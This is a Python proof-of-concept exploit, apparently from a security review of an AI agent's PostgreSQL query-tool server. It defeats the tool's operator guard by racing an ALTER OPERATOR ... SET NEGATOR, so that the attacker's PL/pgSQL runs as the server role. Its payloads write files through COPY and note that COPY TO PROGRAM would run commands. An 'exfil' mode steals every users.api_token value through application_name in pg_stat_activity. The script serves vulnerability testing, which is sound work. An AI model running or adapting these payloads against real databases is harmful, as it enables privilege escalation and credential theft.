"""attack2 / F10: an operator of a role that is not trusted, whose function is a built-in, passes
the guard (operators' owners are not checked, only their functions'); its owner can then give
it a NEGATOR (ALTER OPERATOR ... SET (NEGATOR = ...), PostgreSQL 17+) at any moment, waiting for
no lock. The planner rewrites NOT (a op b) into (a negator b) while it simplifies the WHERE
clause, and the executor runs the negator's function: the attacker's PL/pgSQL, as the server.

Deterministic with MAINTAIN on a table the statement reads (GRANT MAINTAIN, or membership in
pg_maintain): REINDEX of its index in an open transaction holds the server's statement while the
materialized CTE is planned, after the check and the parse, before the main WHERE is simplified.
Without MAINTAIN the same ALTER can race the check like F4.
Usage: PYTHONPATH=tests:security-review uv run python security-review/race_negator.py [reader|postgres] [race|static|exfil]
  TOOL=explain: the raced call is explain_query with analyze=true
  static: no race, the negator set before the call (control: the guard must refuse it)
  exfil: silent: the negator reads public.users.api_token as the server, shows it in the server
  backend's application_name (pg_stat_activity shows that to every role) and answers false, so
  the agent's call succeeds; the attacker's third session reads the tokens."""
import asyncio, json, os, sys, time
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool

SETUP_ATK = r"""
DROP OPERATOR IF EXISTS atk.=== (int, int); DROP OPERATOR IF EXISTS atk.!=== (int, int);
DROP FUNCTION IF EXISTS atk.neg_evil(int, int);
CREATE FUNCTION atk.neg_evil(int, int) RETURNS boolean VOLATILE LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
  BEGIN  -- as a superuser server role: a file written (COPY TO PROGRAM would run a command)
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', current_user, '/tmp/attack2-negator-' || x);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  PERFORM pg_catalog.set_config('application_name', 'PWNED-negator xid ' || x, false);
  RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
GRANT EXECUTE ON FUNCTION atk.neg_evil(int, int) TO PUBLIC;
-- the operator the agent is told to use: a built-in function, nothing else
CREATE OPERATOR atk.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = pg_catalog.int4eq);
CREATE OPERATOR atk.!=== (LEFTARG = int, RIGHTARG = int, FUNCTION = atk.neg_evil);
"""
EXFIL = r"""
CREATE OR REPLACE FUNCTION atk.neg_evil(int, int) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM pg_catalog.set_config('application_name',
    'LEAK ' || (SELECT pg_catalog.string_agg(api_token, ',') FROM public.users), false);
  PERFORM pg_catalog.pg_sleep(0.5);
  RETURN false;
END $f$;
"""
SQL = ("WITH w AS MATERIALIZED (SELECT id FROM public.users ORDER BY id LIMIT 1) "
       "SELECT w.id FROM w WHERE NOT (w.id OPERATOR(atk.===) {n})")

async def main(role: str, mode: str) -> None:
    admin = await asyncpg.connect(DSN)
    await admin.execute("GRANT MAINTAIN ON public.users TO attacker")
    a = await asyncpg.connect(as_role("attacker")); await a.execute(SETUP_ATK)
    if mode == "exfil":
        await a.execute(EXFIL)
    b = await asyncpg.connect(as_role("attacker"))
    server_role = "postgres" if role == "postgres" else role
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, "execute_query", sql=SQL.format(n=2))
        print("baseline (no negator):", ok, json.dumps(body.get("rows", body))[:200])
        before = await admin.fetchval("SELECT pg_current_xact_id()::text")
        if mode == "static":
            await b.execute("ALTER OPERATOR atk.===(int, int) SET (NEGATOR = OPERATOR(atk.!===))")
            ok, body = await tool(c, "execute_query", sql=SQL.format(n=3))
            print("static call:", ok, json.dumps(body.get("error", body))[:300])
        else:
            await a.execute("BEGIN; REINDEX INDEX public.users_pkey")
            if os.environ.get("TOOL") == "explain":  # explain_query with analyze: same
                call = asyncio.create_task(tool(c, "explain_query", sql=SQL.format(n=3), analyze=True))
            else:
                call = asyncio.create_task(tool(c, "execute_query", sql=SQL.format(n=3)))
            t0 = time.monotonic(); waiting = None
            while time.monotonic() - t0 < 10:
                waiting = await admin.fetchrow(
                    "SELECT pid, wait_event_type, left(query, 100) AS q FROM pg_stat_activity "
                    "WHERE usename = $1 AND wait_event_type = 'Lock' AND datname = current_database()", server_role)
                if waiting: break
                await asyncio.sleep(0.01)
            print("server backend waiting:", dict(waiting) if waiting else None)
            if waiting:
                print("  waiting for:", [dict(r) for r in await admin.fetch(
                    "SELECT l.relation::regclass::text AS rel, l.mode FROM pg_locks l WHERE l.pid = $1 AND NOT l.granted", waiting["pid"])])
            await b.execute("ALTER OPERATOR atk.===(int, int) SET (NEGATOR = OPERATOR(atk.!===))")
            print("negator set and committed by a second attacker session")
            await a.execute("COMMIT")
            if mode == "exfil":
                seen = set()
                while not call.done():
                    for r in await b.fetch("SELECT application_name FROM pg_stat_activity WHERE application_name LIKE 'LEAK %'"):
                        seen.add(r[0])
                    await asyncio.sleep(0.02)
                print("attacker's session read from pg_stat_activity:", sorted(seen))
            ok, body = await call
            print("call:", ok, json.dumps(body.get("error", body.get("rows", body)))[:400])
        after = await admin.fetchval("SELECT pg_current_xact_id()::text")
        print("next xid before/after (admin session, 1 each):", before, after)
        ok, body = await tool(c, "execute_query", sql="SELECT current_setting('application_name') AS app")
        print("server session application_name now:", json.dumps(body.get("rows", body))[:200])
    await admin.execute("REVOKE MAINTAIN ON public.users FROM attacker")
    await a.execute("DROP OPERATOR IF EXISTS atk.=== (int, int); DROP OPERATOR IF EXISTS atk.!=== (int, int)")
    for x in (a, b, admin): await x.close()
    print("files:", sorted(f for f in os.listdir("/tmp") if f.startswith("attack2-negator")))

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader", sys.argv[2] if len(sys.argv) > 2 else "race"))
